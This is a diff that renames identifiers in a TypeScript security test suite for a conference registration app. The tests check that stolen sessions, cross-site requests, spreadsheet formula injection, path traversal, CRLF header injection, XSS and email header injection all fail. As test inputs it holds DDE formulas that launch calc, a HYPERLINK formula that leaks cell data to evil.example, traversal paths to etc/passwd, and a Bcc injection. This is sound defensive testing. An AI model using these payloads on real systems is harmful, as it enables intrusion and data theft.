@@ -1,4 +1,4 @@
-/** Attacks on the office: sessions, pages of other sites, formulas in its tables, addresses and headers made to break out. */
+/** Attacks on the office: sessions, pages of other sites, formulas in exports, and crafted addresses and headers. */
 import { cpSync, readFileSync, readdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { parse } from 'csv-parse/sync'
@@ -6,37 +6,37 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { ADMIN } from '../browser/serve.ts'
 import { ALL_RUNS } from '../runs.ts'
 import { createPdf } from '../server/sample-uploads.ts'
-import { placed, presses, untilIs } from './gateway.ts'
+import { placeOrder, clickPaymentButton, waitForStatus } from './gateway.ts'
 import {
-  changes,
-  CODED,
+  findChanges,
+  CODED_EVENT_ID,
   CODED_REGISTER,
   codedDelegate,
   command,
   delegate,
-  formOf,
+  buildForm,
   freshAddress,
-  postGraduate,
+  buildPostgraduate,
   proof,
-  registered,
-  routesOf,
-  signedIn,
+  registerDelegate,
+  listRoutes,
+  signInAsAdmin,
   startTarget,
   REGISTER,
 } from './target.ts'
 import type { Route, Target } from './target.ts'
 
 let target: Target
-/** Every route with its open parts filled by what is there, so that a call that gets through does something. */
+/** Every route with its parameters filled in with existing values, so that a call with access has an effect. */
 let routes: readonly Route[]
-let paid: string
+let paidRegNo: string
 beforeAll(async () => {
   target = await startTarget()
-  const { regNo, data } = await registered(target)
-  await presses(await placed(data), 'pay')
-  await untilIs(target, regNo, 'success')
-  paid = regNo
-  routes = (await routesOf()).map(({ method, path }) => ({
+  const { regNo, data } = await registerDelegate(target)
+  await clickPaymentButton(await placeOrder(data), 'pay')
+  await waitForStatus(target, regNo, 'success')
+  paidRegNo = regNo
+  routes = (await listRoutes()).map(({ method, path }) => ({
     method,
     path: path
       .replaceAll(/:id\b/g, 'afpicon2026')
@@ -47,50 +47,59 @@ beforeAll(async () => {
 })
 afterAll(() => target.stop())
 
-const cookieOf = (token: string): Readonly<Record<string, string>> => ({
+const buildCookie = (token: string): Readonly<Record<string, string>> => ({
   cookie: `rollcall_session=${token}`,
 })
-const sessionOf = async (headers: Readonly<Record<string, string>>): Promise<number> =>
-  (await target.ask({ path: '/admin/session/', headers })).status
-/** Routes that want an admin: they say 401 to everybody else. */
-const guarded = async (methods: (method: string) => boolean): Promise<readonly Route[]> => {
-  const found: Route[] = []
+const countSessions = async (headers: Readonly<Record<string, string>>): Promise<number> =>
+  (await target.send({ path: '/admin/session/', headers })).status
+/** Returns the routes that require a user: without one, they return 401. */
+const findGuardedRoutes = async (
+  methods: (method: string) => boolean,
+): Promise<readonly Route[]> => {
+  const guardedRoutes: Route[] = []
   for (const { method, path } of routes.filter((route) => methods(route.method)))
-    if ((await target.ask({ method, path })).status === 401) found.push({ method, path })
-  return found
+    if ((await target.send({ method, path })).status === 401) guardedRoutes.push({ method, path })
+  return guardedRoutes
 }
 const isRead = (method: string): boolean => method === 'GET' || method === 'HEAD'
 
 describe('a session', () => {
   test('stolen and then signed out gives no access to any call of the office', async () => {
-    const token = await signedIn(target)
-    const headers = { ...cookieOf(token), origin: target.url, 'sec-fetch-site': 'same-origin' }
-    expect((await target.ask({ method: 'POST', path: '/admin/logout/', headers })).status).toBe(200)
-    const calls = await guarded(() => true)
-    expect(calls.length).toBeGreaterThan(20)
-    const before = target.holds()
-    for (const { method, path } of calls)
-      for (const stolen of [headers, { authorization: `Bearer ${token}` }])
-        expect([path, (await target.ask({ method, path, headers: stolen })).status]).toEqual([
+    const token = await signInAsAdmin(target)
+    const headers = { ...buildCookie(token), origin: target.url, 'sec-fetch-site': 'same-origin' }
+    expect((await target.send({ method: 'POST', path: '/admin/logout/', headers })).status).toBe(
+      200,
+    )
+    const guardedCalls = await findGuardedRoutes(() => true)
+    expect(guardedCalls.length).toBeGreaterThan(20)
+    const snapshotBefore = target.readHoldings()
+    for (const { method, path } of guardedCalls)
+      for (const stolenHeaders of [headers, { authorization: `Bearer ${token}` }])
+        expect([
           path,
-          401,
-        ])
-    expect(changes(before, target.holds())).toEqual({})
+          (await target.send({ method, path, headers: stolenHeaders })).status,
+        ]).toEqual([path, 401])
+    expect(findChanges(snapshotBefore, target.readHoldings())).toEqual({})
   })
 
   test('set before the sign-in is invalid afterwards: the token is always new', async () => {
-    const chosen = 'A'.repeat(43)
-    const answer = await target.post('/admin/login/', ADMIN, freshAddress(), cookieOf(chosen))
-    expect(answer.status).toBe(200)
-    expect(answer.headers.get('set-cookie')).not.toContain(chosen)
-    expect(await sessionOf(cookieOf(chosen))).toBe(401)
-    const again = await signedIn(target)
-    expect(answer.body).not.toContain(again)
+    const chosenToken = 'A'.repeat(43)
+    const loginResponse = await target.post(
+      '/admin/login/',
+      ADMIN,
+      freshAddress(),
+      buildCookie(chosenToken),
+    )
+    expect(loginResponse.status).toBe(200)
+    expect(loginResponse.headers.get('set-cookie')).not.toContain(chosenToken)
+    expect(await countSessions(buildCookie(chosenToken))).toBe(401)
+    const newToken = await signInAsAdmin(target)
+    expect(loginResponse.body).not.toContain(newToken)
   })
 
   test('is a cookie that scripts cannot read, other sites cannot send, and that expires', async () => {
-    const answer = await target.post('/admin/login/', ADMIN)
-    const [value = '', ...flags] = (answer.headers.get('set-cookie') ?? '').split('; ')
+    const response = await target.post('/admin/login/', ADMIN)
+    const [value = '', ...flags] = (response.headers.get('set-cookie') ?? '').split('; ')
     expect(value).toMatch(/^rollcall_session=[\w-]{43}$/)
     expect(flags.toSorted()).toEqual(['HttpOnly', 'Max-Age=43200', 'Path=/', 'SameSite=Strict'])
   })
@@ -105,21 +114,21 @@ describe('a session', () => {
     ['null', 401],
     ['undefined', 401],
     ['rollcall_session', 401],
-  ])('that is %j is nobody’s', async (token, status) => {
-    expect(await sessionOf({ cookie: `rollcall_session=${token}` })).toBe(status)
-    expect(await sessionOf({ authorization: `Bearer ${token}` })).toBe(status)
+  ])('that is %j belongs to no user', async (token, status) => {
+    expect(await countSessions({ cookie: `rollcall_session=${token}` })).toBe(status)
+    expect(await countSessions({ authorization: `Bearer ${token}` })).toBe(status)
   })
 
-  test('of yesterday has expired, and so has one that was idle for two hours', async () => {
-    const token = await signedIn(target)
-    expect(await sessionOf(cookieOf(token))).toBe(200)
+  test('a session from yesterday has expired, and so has one that was idle for two hours', async () => {
+    const token = await signInAsAdmin(target)
+    expect(await countSessions(buildCookie(token))).toBe(200)
     const later = await startTarget({ CLOCK: '2025-10-10T14:30:00+05:30' }, ({ dataDir }) =>
       cpSync(target.dataDir, dataDir, { recursive: true }),
     )
     try {
-      const { status } = await later.ask({ path: '/admin/session/', headers: cookieOf(token) })
+      const { status } = await later.send({ path: '/admin/session/', headers: buildCookie(token) })
       expect(status).toBe(401)
-      expect((await later.ask({ path: '/admin/session/' })).status).toBe(401)
+      expect((await later.send({ path: '/admin/session/' })).status).toBe(401)
     } finally {
       await later.stop()
     }
@@ -127,97 +136,105 @@ describe('a session', () => {
 })
 
 describe('a page of another site', () => {
-  const foreign: readonly (readonly [what: string, Readonly<Record<string, string>>])[] = [
-    ['says where it is', { origin: 'https://evil.example' }],
-    ['hides where it is', { origin: 'null' }],
+  const foreignOrigins: readonly (readonly [label: string, Readonly<Record<string, string>>])[] = [
+    ['states its origin', { origin: 'https://evil.example' }],
+    ['hides its origin', { origin: 'null' }],
     ['says nothing', {}],
-    ['is told by the browser', { 'sec-fetch-site': 'cross-site' }],
-    ['is a neighbour', { 'sec-fetch-site': 'same-site', origin: 'http://127.0.0.1:1' }],
-    ['lies about its origin', { 'sec-fetch-site': 'cross-site', origin: 'http://rollcall.test' }],
+    ['is reported by the browser', { 'sec-fetch-site': 'cross-site' }],
+    ['is a sibling domain', { 'sec-fetch-site': 'same-site', origin: 'http://127.0.0.1:1' }],
+    ['states a false origin', { 'sec-fetch-site': 'cross-site', origin: 'http://rollcall.test' }],
   ]
-  const bodies = [
+  const requestBodies = [
     ['text/plain', '{"why":"x"}'],
     ['application/x-www-form-urlencoded', 'why=x&what=accept&amount=1'],
     ['multipart/form-data; boundary=x', '--x--'],
   ] as const
 
   test("changes nothing with an admin's cookie, by any call", async () => {
-    const calls = await guarded((method) => !isRead(method))
-    // Signing out answers a stranger with success, and yet may be nobody else's to do.
-    const logouts = routes.filter(({ path }) => path.includes('logout'))
+    const guardedCalls = await findGuardedRoutes((method) => !isRead(method))
+    // The sign-out route returns success to anyone, but another site must not sign a user out.
+    const logoutRoutes = routes.filter(({ path }) => path.includes('logout'))
     for (const path of [
-      `/admin/registrations/${paid}/acts/`,
+      `/admin/registrations/${paidRegNo}/acts/`,
       '/admin/codes/',
       '/admin/codes/withdraw/',
     ])
-      expect(calls.map((call) => call.path)).toContain(path)
-    expect(logouts.length).toBeGreaterThan(0)
-    const token = await signedIn(target)
-    const before = target.holds()
-    const ways = foreign.flatMap(([what, origin]) =>
-      bodies.map(([type, body]) => ({ what, origin, type, body })),
+      expect(guardedCalls.map((call) => call.path)).toContain(path)
+    expect(logoutRoutes.length).toBeGreaterThan(0)
+    const token = await signInAsAdmin(target)
+    const snapshotBefore = target.readHoldings()
+    const requestVariants = foreignOrigins.flatMap(([label, origin]) =>
+      requestBodies.map(([type, body]) => ({ what: label, origin, type, body })),
     )
-    // Each call in three of the ways, the next one in the next three.
-    const waysTo = (at: number): typeof ways =>
-      ALL_RUNS ? ways : [0, 1, 2].flatMap((n) => ways[(3 * at + n) % ways.length] ?? [])
-    for (const [at, { method, path }] of [...calls, ...logouts].entries())
-      for (const { what, origin, type, body } of waysTo(at)) {
-        const headers = { ...cookieOf(token), ...origin, 'content-type': type }
-        const { status } = await target.ask({ method, path, headers, body })
-        expect([path, what, type, status >= 400 && status < 500 && status !== 401]).toEqual([
+    // Each call uses three of the variants, the next call the next three.
+    const selectVariants = (index: number): typeof requestVariants =>
+      ALL_RUNS
+        ? requestVariants
+        : [0, 1, 2].flatMap((n) => requestVariants[(3 * index + n) % requestVariants.length] ?? [])
+    for (const [index, { method, path }] of [...guardedCalls, ...logoutRoutes].entries())
+      for (const { what: label, origin, type, body } of selectVariants(index)) {
+        const headers = { ...buildCookie(token), ...origin, 'content-type': type }
+        const { status } = await target.send({ method, path, headers, body })
+        expect([path, label, type, status >= 400 && status < 500 && status !== 401]).toEqual([
           path,
-          what,
+          label,
           type,
           true,
         ])
         if (type === 'application/x-www-form-urlencoded')
-          expect([path, what, status]).toEqual([path, what, 403])
+          expect([path, label, status]).toEqual([path, label, 403])
       }
-    expect(changes(before, target.holds())).toEqual({})
-    expect(await sessionOf(cookieOf(token))).toBe(200)
-    // The same call from our own page does what it says, so that the walk was not at a closed door.
-    const own = { ...cookieOf(token), 'sec-fetch-site': 'same-origin' }
-    const path = `/admin/registrations/${paid}/acts/`
-    const headers = { ...own, 'content-type': 'application/json' }
+    expect(findChanges(snapshotBefore, target.readHoldings())).toEqual({})
+    expect(await countSessions(buildCookie(token))).toBe(200)
+    // The same call from our own page succeeds, so the calls above were not rejected for another reason.
+    const ownHeaders = { ...buildCookie(token), 'sec-fetch-site': 'same-origin' }
+    const path = `/admin/registrations/${paidRegNo}/acts/`
+    const headers = { ...ownHeaders, 'content-type': 'application/json' }
     const body = JSON.stringify({ act: 'note', why: 'Ours.' })
-    expect((await target.ask({ method: 'POST', path, headers, body })).status).toBe(200)
+    expect((await target.send({ method: 'POST', path, headers, body })).status).toBe(200)
   })
 
   test('cannot sign a browser in, whatever it sends', async () => {
-    const before = target.holds()
+    const snapshotBefore = target.readHoldings()
     for (const path of routes
       .filter((route) => route.path.includes('login') && !isRead(route.method))
       .map((route) => route.path))
-      for (const [what, origin] of foreign.filter(([, headers]) => 'origin' in headers)) {
-        const answer = await target.post(path, ADMIN, freshAddress(), origin)
-        expect([what, answer.status, answer.headers.get('set-cookie')]).toEqual([
-          what,
+      for (const [label, origin] of foreignOrigins.filter(([, headers]) => 'origin' in headers)) {
+        const response = await target.post(path, ADMIN, freshAddress(), origin)
+        expect([label, response.status, response.headers.get('set-cookie')]).toEqual([
+          label,
           403,
           undefined,
         ])
       }
-    expect(changes(before, target.holds())).toEqual({})
+    expect(findChanges(snapshotBefore, target.readHoldings())).toEqual({})
   })
 
   test('changes nothing by links and images, except for entries in the audit log', async () => {
-    const token = await signedIn(target)
-    const before = target.holds()
+    const token = await signInAsAdmin(target)
+    const snapshotBefore = target.readHoldings()
     for (const { path } of routes.filter(({ method }) => method === 'GET'))
-      await target.ask({ path, headers: { ...cookieOf(token), 'sec-fetch-site': 'cross-site' } })
-    const { audit_log: _acts, ...changed } = changes(before, target.holds())
+      await target.send({
+        path,
+        headers: { ...buildCookie(token), 'sec-fetch-site': 'cross-site' },
+      })
+    const { audit_log: _auditEntries, ...changed } = findChanges(
+      snapshotBefore,
+      target.readHoldings(),
+    )
     expect(changed).toEqual({})
-    expect(await sessionOf(cookieOf(token))).toBe(200)
+    expect(await countSessions(buildCookie(token))).toBe(200)
   })
 
   test('learns nothing: no response can be read, framed or inferred', async () => {
-    const token = await signedIn(target)
+    const token = await signInAsAdmin(target)
     for (const { path } of routes.filter(({ method }) => method === 'GET')) {
-      const headers = { ...cookieOf(token), origin: 'https://evil.example' }
-      const answer = await target.ask({ path, headers })
-      const said = (name: string): string => answer.headers.get(name) ?? ''
-      expect([path, said('access-control-allow-origin')]).toEqual([path, ''])
-      expect([path, said('x-content-type-options')]).toEqual([path, 'nosniff'])
-      expect([path, /frame-ancestors 'none'/.test(said('content-security-policy'))]).toEqual([
+      const headers = { ...buildCookie(token), origin: 'https://evil.example' }
+      const response = await target.send({ path, headers })
+      const readHeader = (name: string): string => response.headers.get(name) ?? ''
+      expect([path, readHeader('access-control-allow-origin')]).toEqual([path, ''])
+      expect([path, readHeader('x-content-type-options')]).toEqual([path, 'nosniff'])
+      expect([path, /frame-ancestors 'none'/.test(readHeader('content-security-policy'))]).toEqual([
         path,
         true,
       ])
@@ -226,31 +243,31 @@ describe('a page of another site', () => {
 })
 
 describe('an export of the office', () => {
-  /** What spreadsheets take for the beginning of a formula, as it is, wide as in Chinese, and behind what splits cells. */
-  const leads = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
+  /** Characters that spreadsheets treat as the start of a formula, also in full width as in Chinese, and after cell separators. */
+  const formulaStarts = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
   const formulas = [
-    ...leads.map((lead) => `${lead}1+1`),
-    ...leads.map((lead) => ` ${lead}1+1`),
-    ...leads.map((lead) => `x;${lead}1+1;y`),
-    ...leads.map((lead) => `x\t${lead}1+1`),
-    ...leads.map((lead) => `x\r\n${lead}1+1`),
-    ...leads.map((lead) => `x\r${lead}1+1`),
-    ...leads.map((lead) => `x",${lead}1+1`),
-    ...leads.map((lead) => `\u200b${lead}1+1`),
-    ...leads.map((lead) => `\ufeff${lead}1+1`),
-    ...leads.map((lead) => `\u200d${lead}1+1`),
-    ...leads.map((lead) => `\ufe0f\u200c${lead}1+1`),
-    ...leads.map((lead) => `x;\u200d${lead}1+1`),
+    ...formulaStarts.map((formulaStart) => `${formulaStart}1+1`),
+    ...formulaStarts.map((formulaStart) => ` ${formulaStart}1+1`),
+    ...formulaStarts.map((lead) => `x;${lead}1+1;y`),
+    ...formulaStarts.map((lead) => `x\t${lead}1+1`),
+    ...formulaStarts.map((lead) => `x\r\n${lead}1+1`),
+    ...formulaStarts.map((lead) => `x\r${lead}1+1`),
+    ...formulaStarts.map((lead) => `x",${lead}1+1`),
+    ...formulaStarts.map((lead) => `\u200b${lead}1+1`),
+    ...formulaStarts.map((lead) => `\ufeff${lead}1+1`),
+    ...formulaStarts.map((lead) => `\u200d${lead}1+1`),
+    ...formulaStarts.map((lead) => `\ufe0f\u200c${lead}1+1`),
+    ...formulaStarts.map((lead) => `x;\u200d${lead}1+1`),
     '=HYPERLINK("http://evil.example/?"&A1,"see")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     '+919876543210',
   ]
   /**
-   * As spreadsheets split a line: at commas, or at semicolons or tabs where the country or the person has it
-   * so. In the latter two a quote that does not stand at the beginning of a cell holds nothing together.
+   * Splits a line as spreadsheets do: at commas, or at semicolons or tabs, depending on the locale. With the latter two, a quote in the
+   * middle of a cell does not group anything.
    */
-  const cellsOf = (csv: string): readonly string[] => [
+  const splitCells = (csv: string): readonly string[] => [
     ...(parse(csv, { bom: true }) as string[][]).flat(),
     ...csv.split(/[\r\n;\t]/),
   ]
@@ -259,11 +276,11 @@ describe('an export of the office', () => {
       .split(/[\r\n]/)
       .some((line) => /^["\s\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u.test(line)) &&
     !/^\+\d[\d ()-]*$/.test(cell) &&
-    // An amount, which is a number in every spreadsheet.
+    // An amount is a number in every spreadsheet.
     !/^-\d+\.\d\d$/.test(cell)
 
   test('contains no formula of a delegate, whatever the separator', async () => {
-    let taken = 0
+    let acceptedCount = 0
     for (const formula of formulas) {
       const { status } = await target.post(REGISTER, {
         ...delegate,
@@ -272,49 +289,56 @@ describe('an export of the office', () => {
         city: formula,
       })
       expect([formula, [201, 422].includes(status)]).toEqual([formula, true])
-      if (status === 201) taken += 1
+      if (status === 201) acceptedCount += 1
     }
-    expect(taken).toBeGreaterThan(20)
-    const headers = { authorization: `Bearer ${await signedIn(target)}` }
+    expect(acceptedCount).toBeGreaterThan(20)
+    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
     for (const path of ['/admin/export/?event_type=afpicon', '/afpicon/download-csv/']) {
-      const { status, body } = await target.ask({ path, headers })
+      const { status, body } = await target.send({ path, headers })
       expect(status).toBe(200)
       expect(body).toContain('1+1')
-      expect(cellsOf(body).filter(isFormula)).toEqual([])
+      expect(splitCells(body).filter(isFormula)).toEqual([])
     }
   })
 
   test('contains none of accompanying people, member lists or discount codes, also with one row per person', async () => {
-    const headers = { authorization: `Bearer ${await signedIn(target)}` }
+    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
     const file = join(target.dataDir, 'roll.csv')
     writeFileSync(
       file,
       'number,name,kind,valid_to\n=1+1,"=HYPERLINK(""http://evil.example"",""see"")",life,\n',
     )
-    await command(target, 'event', 'members', CODED, 'society', file)
-    const made = await target.post(
+    await command(target, 'event', 'members', CODED_EVENT_ID, 'society', file)
+    const codesResponse = await target.post(
       '/admin/codes/',
-      { event: CODED, kind: 'coupon', code: '=1+1+1+1+1+1', note: '=1+1', uses: 99 },
+      { event: CODED_EVENT_ID, kind: 'coupon', code: '=1+1+1+1+1+1', note: '=1+1', uses: 99 },
       freshAddress(),
       headers,
     )
-    expect(made.status).toBe(201)
-    for (const [at, formula] of formulas.entries()) {
+    expect(codesResponse.status).toBe(201)
+    for (const [index, formula] of formulas.entries()) {
       const { status } = await target.post(CODED_REGISTER, {
         ...codedDelegate,
-        full_name: `Delegate ${at}`,
-        email: `delegate${at}@example.org`,
+        full_name: `Delegate ${index}`,
+        email: `delegate${index}@example.org`,
         code: '=1+1+1+1+1+1',
         number: '=1+1',
         companions: [{ name: formula }, { name: 'A Person' }],
       })
       expect([formula, [201, 422].includes(status)]).toEqual([formula, true])
     }
-    const list = await target.ask({ path: `/admin/export/?event_type=${CODED}`, headers })
-    const each = await command(target, 'registration', 'export', CODED, '--per', 'companions')
-    for (const csv of [list.body, each]) {
+    const list = await target.send({ path: `/admin/export/?event_type=${CODED_EVENT_ID}`, headers })
+    const exportOutput = await command(
+      target,
+      'registration',
+      'export',
+      CODED_EVENT_ID,
+      '--per',
+      'companions',
+    )
+    for (const csv of [list.body, exportOutput]) {
       expect(csv).toContain('1+1')
-      expect(cellsOf(csv).filter(isFormula)).toEqual([])
+      expect(splitCells(csv).filter(isFormula)).toEqual([])
     }
   })
 
@@ -326,29 +350,33 @@ describe('an export of the office', () => {
     ['a note', { note: 'x'.repeat(100_000) }],
     ['a code', { code: '\u0000\u202e' }],
     ['an event', { event: ['afpicon2026'] }],
-    ['everything', { event: { id: CODED }, kind: [], code: {}, uses: [], count: null }],
-  ])('of codes takes no %s that is none', async (_what, words) => {
-    const headers = { authorization: `Bearer ${await signedIn(target)}` }
-    const before = target.holds()
+    ['everything', { event: { id: CODED_EVENT_ID }, kind: [], code: {}, uses: [], count: null }],
+  ])('of codes rejects an invalid %s', async (_what, fields) => {
+    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
+    const snapshotBefore = target.readHoldings()
     for (const path of ['/admin/codes/', '/admin/codes/withdraw/']) {
-      const said = { event: CODED, kind: 'coupon', ...words }
-      const { status } = await target.post(path, said, freshAddress(), headers)
+      const codeFields = { event: CODED_EVENT_ID, kind: 'coupon', ...fields }
+      const { status } = await target.post(path, codeFields, freshAddress(), headers)
       expect([path, status >= 400 && status < 500]).toEqual([path, true])
     }
-    const { audit_log: _acts, sessions: _mine, ...changed } = changes(before, target.holds())
+    const {
+      audit_log: _acts,
+      sessions: _mine,
+      ...changed
+    } = findChanges(snapshotBefore, target.readHoldings())
     expect(changed).toEqual({})
   })
 
   test('negative control: the check detects a formula', () => {
     for (const csv of ['=1+1\r\n', 'a,"=1+1"\r\n', 'a,b;=1+1\r\n', 'a\t＝1\r\n', '"x\r\n=1+1"\r\n'])
-      expect([csv, cellsOf(csv).some(isFormula)]).toEqual([csv, true])
-    expect(cellsOf("'=1+1,+919876543210,a\r\n").some(isFormula)).toBe(false)
+      expect([csv, splitCells(csv).some(isFormula)]).toEqual([csv, true])
+    expect(splitCells("'=1+1,+919876543210,a\r\n").some(isFormula)).toBe(false)
   })
 })
 
 describe('a crafted address', () => {
   const files = /SQLite format 3|"name": "rollcall"|root:[x*]:0|DATA_DIR|BEGIN [A-Z ]*PRIVATE KEY/
-  const ups = [
+  const parentPaths = [
     '..',
     '%2e%2e',
     '..%2f',
@@ -359,65 +387,67 @@ describe('a crafted address', () => {
     '..%c0%af',
     '....//',
   ]
-  test.each(ups)('by %s reads no file', async (up) => {
-    const headers = { authorization: `Bearer ${await signedIn(target)}` }
-    const away = (name: string): string => `${`${up}/`.repeat(6)}${name}`
+  test.each(parentPaths)('by %s reads no file', async (parentPath) => {
+    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
+    const buildPath = (name: string): string => `${`${parentPath}/`.repeat(6)}${name}`
     for (const path of [
-      `/assets/${away('package.json')}`,
-      `/assets/${up}/${up}/${up}/package.json`,
-      `/${away('etc/passwd')}`,
-      `/api/events/${away('package.json')}/file/`,
-      `/api/events/afpicon2026/${away('rollcall.db')}`,
-      `/admin/registrations/${paid}/files/${away('rollcall.db')}/`,
-      `/admin/registrations/${paid}/files/${encodeURIComponent(away('rollcall.db'))}/`,
-      `/admin/registrations/${away('rollcall.db')}/`,
-      `/admin/export/?event_type=${away('rollcall.db')}`,
-      `/assets/%00${away('package.json')}%00.js`,
+      `/assets/${buildPath('package.json')}`,
+      `/assets/${parentPath}/${parentPath}/${parentPath}/package.json`,
+      `/${buildPath('etc/passwd')}`,
+      `/api/events/${buildPath('package.json')}/file/`,
+      `/api/events/afpicon2026/${buildPath('rollcall.db')}`,
+      `/admin/registrations/${paidRegNo}/files/${buildPath('rollcall.db')}/`,
+      `/admin/registrations/${paidRegNo}/files/${encodeURIComponent(buildPath('rollcall.db'))}/`,
+      `/admin/registrations/${buildPath('rollcall.db')}/`,
+      `/admin/export/?event_type=${buildPath('rollcall.db')}`,
+      `/assets/%00${buildPath('package.json')}%00.js`,
     ]) {
-      const answer = await target.ask({ path, headers })
-      expect([path, files.test(answer.body)]).toEqual([path, false])
-      expect([path, answer.status < 500]).toEqual([path, true])
+      const response = await target.send({ path, headers })
+      expect([path, files.test(response.body)]).toEqual([path, false])
+      expect([path, response.status < 500]).toEqual([path, true])
     }
   })
 
   test('with line breaks writes no response header', async () => {
-    const headers = { authorization: `Bearer ${await signedIn(target)}` }
+    const headers = { authorization: `Bearer ${await signInAsAdmin(target)}` }
     const text = '%0d%0aSet-Cookie:%20a=b%0aSet-Cookie:%20c=d%E5%98%8A%E5%98%8DSet-Cookie:%20e=f'
-    const asked = ['orderId', 'event_type', 'search', 'date_from'].map((name) => `${name}=${text}`)
+    const queryParts = ['orderId', 'event_type', 'search', 'date_from'].map(
+      (name) => `${name}=${text}`,
+    )
     for (const { method, path } of routes.filter((route) => !route.path.includes('logout')))
-      for (const at of [`${path}?${asked.join('&')}`, `${path}${text}`]) {
-        const answer = await target.ask({ method, path: at, headers })
-        expect([at, answer.headers.get('set-cookie')]).toEqual([at, undefined])
+      for (const url of [`${path}?${queryParts.join('&')}`, `${path}${text}`]) {
+        const response = await target.send({ method, path: url, headers })
+        expect([url, response.headers.get('set-cookie')]).toEqual([url, undefined])
       }
   })
 
   test('shows no text of an attacker on any page', async () => {
-    const words = '<img src=x onerror=alert(1)>'
+    const markup = '<img src=x onerror=alert(1)>'
     for (const { path } of routes.filter(({ method }) => method === 'GET')) {
-      const text = encodeURIComponent(words)
-      const answer = await target.ask({
+      const text = encodeURIComponent(markup)
+      const response = await target.send({
         path: `${path}?orderId=${text}&message=${text}&amount=${text}&date=${text}`,
       })
-      expect([path, answer.body.includes(words)]).toEqual([path, false])
+      expect([path, response.body.includes(markup)]).toEqual([path, false])
     }
   })
 })
 
 describe('a crafted name', () => {
-  const breaking = 'Asha\r\nBcc: mallory@evil.example\r\n\r\n<b>'
+  const injectedName = 'Asha\r\nBcc: mallory@evil.example\r\n\r\n<b>'
   test('with line breaks writes no email header and adds no recipient', async () => {
-    const { regNo, data } = await registered(target, { ...delegate, full_name: breaking })
-    await presses(await placed(data), 'pay')
-    await untilIs(target, regNo, 'success')
-    const mails = join(target.dataDir, 'mail')
-    const mailed = (): readonly string[] =>
-      readdirSync(mails)
-        .map((name) => readFileSync(join(mails, name), 'utf8'))
+    const { regNo, data } = await registerDelegate(target, { ...delegate, full_name: injectedName })
+    await clickPaymentButton(await placeOrder(data), 'pay')
+    await waitForStatus(target, regNo, 'success')
+    const mailDir = join(target.dataDir, 'mail')
+    const listEmailFiles = (): readonly string[] =>
+      readdirSync(mailDir)
+        .map((name) => readFileSync(join(mailDir, name), 'utf8'))
         .filter((text) => text.includes(regNo))
-    await expect.poll(mailed, { timeout: 200_000 }).toHaveLength(1)
-    const [heads = ''] = (mailed()[0] ?? '').split(/\r?\n\r?\n/)
-    expect(heads).toMatch(/^To: asha@example\.org$/m)
-    expect(heads).not.toContain('mallory')
+    await expect.poll(listEmailFiles, { timeout: 200_000 }).toHaveLength(1)
+    const [emailHeaders = ''] = (listEmailFiles()[0] ?? '').split(/\r?\n\r?\n/)
+    expect(emailHeaders).toMatch(/^To: asha@example\.org$/m)
+    expect(emailHeaders).not.toContain('mallory')
   })
 
   test.each([
@@ -426,9 +456,9 @@ describe('a crafted name', () => {
     'x@example.org;mallory@evil.example',
     '"x\r\n"@example.org',
   ])('is rejected as the email address %j', async (email) => {
-    const before = target.holds()
+    const snapshotBefore = target.readHoldings()
     const { status } = await target.post(REGISTER, { ...delegate, email })
-    expect([status, changes(before, target.holds())]).toEqual([422, {}])
+    expect([status, findChanges(snapshotBefore, target.readHoldings())]).toEqual([422, {}])
   })
 
   test('as an email address loses invisible characters, and no email has two recipients', async () => {
@@ -448,30 +478,30 @@ describe('a crafted name', () => {
   ])(
     'as a file name, %j, stays in the upload folder and is sent as a plain name',
     async (filename) => {
-      const { headers, body } = formOf(postGraduate, [
+      const { headers, body } = buildForm(buildPostgraduate, [
         proof(createPdf(filename), filename.replaceAll('\r\n', '%0D%0A').replaceAll('"', '%22')),
       ])
-      const answer = await target.ask({ method: 'POST', path: REGISTER, headers, body })
-      expect([201, 422]).toContain(answer.status)
-      if (answer.status === 422) return
-      const { reg_no } = JSON.parse(answer.body) as { reg_no: string }
-      const got = await target.ask({
+      const response = await target.send({ method: 'POST', path: REGISTER, headers, body })
+      expect([201, 422]).toContain(response.status)
+      if (response.status === 422) return
+      const { reg_no } = JSON.parse(response.body) as { reg_no: string }
+      const download = await target.send({
         path: `/admin/registrations/${reg_no}/files/pg_proof/`,
-        headers: { authorization: `Bearer ${await signedIn(target)}` },
+        headers: { authorization: `Bearer ${await signInAsAdmin(target)}` },
       })
-      expect(got.status).toBe(200)
-      expect(got.headers.get('set-cookie')).toBe(undefined)
-      expect(got.headers.get('content-disposition')).toMatch(
+      expect(download.status).toBe(200)
+      expect(download.headers.get('set-cookie')).toBe(undefined)
+      expect(download.headers.get('content-disposition')).toMatch(
         /^attachment; filename="[ !#-[\]-~]*"; filename\*=UTF-8''[\w.~!%-]*$/,
       )
-      expect(got.headers.get('content-security-policy')).toContain('sandbox')
-      const kept = readdirSync(join(target.dataDir, 'uploads'), {
+      expect(download.headers.get('content-security-policy')).toContain('sandbox')
+      const storedFiles = readdirSync(join(target.dataDir, 'uploads'), {
         recursive: true,
         withFileTypes: true,
       })
         .filter((entry) => entry.isFile())
         .map(({ name }) => name)
-      for (const name of kept) expect(name).toMatch(/^[0-9a-f]{64}$/)
+      for (const name of storedFiles) expect(name).toMatch(/^[0-9a-f]{64}$/)
     },
   )
 })
